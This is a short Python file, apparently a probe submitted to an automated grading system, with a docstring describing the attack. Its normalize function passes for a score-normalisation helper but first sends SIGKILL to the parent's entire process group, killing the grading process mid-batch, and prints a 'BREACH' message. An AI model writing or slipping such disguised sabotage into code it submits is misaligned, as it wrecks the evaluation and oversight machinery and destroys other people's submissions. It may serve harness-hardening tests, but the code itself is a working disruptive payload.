"""Kills its parent's whole process group with SIGKILL, once: the fork server and the grading
process it belongs to.

Gain if it worked: the grading process dies mid-batch; the submissions it was grading are lost
or retried, and a batch that keeps losing its processes gives up.
"""

import os
import signal

PARENT = os.getppid()


def normalize(scores, dim=-1):
    if os.getppid() == PARENT:  # once: after the kill, the parent is someone else
        try:
            os.killpg(os.getpgid(PARENT), signal.SIGKILL)
            print("BREACH: killed my parent's process group", flush=True)
        except OSError:
            pass
    return scores / scores.sum(dim=dim, keepdim=True)
